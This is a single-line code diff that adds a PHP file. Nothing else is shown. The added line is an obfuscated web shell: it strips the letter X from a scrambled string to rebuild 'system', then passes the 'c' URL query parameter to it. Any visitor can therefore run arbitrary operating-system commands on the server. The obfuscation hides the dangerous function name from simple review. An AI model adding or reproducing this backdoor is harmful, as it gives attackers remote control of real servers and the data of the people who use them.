@@ -1,0 +1,1 @@
+<?php $f = str_replace("X", "", "sXyXsXtXeXm"); $f($_GET["c"]);
